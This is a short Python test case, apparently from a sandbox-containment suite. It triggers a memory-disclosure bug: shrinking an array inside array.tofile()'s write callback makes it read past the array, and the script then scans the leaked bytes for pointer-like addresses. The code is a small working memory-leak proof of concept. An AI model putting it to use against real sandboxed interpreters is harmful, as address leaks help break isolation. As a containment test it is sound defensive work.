# id: array-tofile-shrink
# class: info
# expect: contained
# technique: unwritten memory and addresses: array.tofile() reads on where write() has shrunk the array
# source: own
# verified: no
import array, struct
a = array.array('B', bytes(65536 * 3)); out = []
class W:
    def write(s, b):
        out.append(b); del a[8:]
try: a.tofile(W())
except Exception as e: print(type(e).__name__, e)
print(len(a), [len(o) for o in out])
found = set()
for o in out[1:]:
    for k in range(8): found |= {w for w in struct.unpack('<%dQ' % (len(o) // 8 - 1), o[k:k + (len(o) // 8 - 1) * 8]) if 0x550000000000 <= w < 0x800000000000}
print(len(found), [hex(x) for x in sorted(found)[:5]])
if any(o.strip(b'\0') for o in out[1:]): print('ESCAPED:array-tofile-shrink bytes from behind the array')
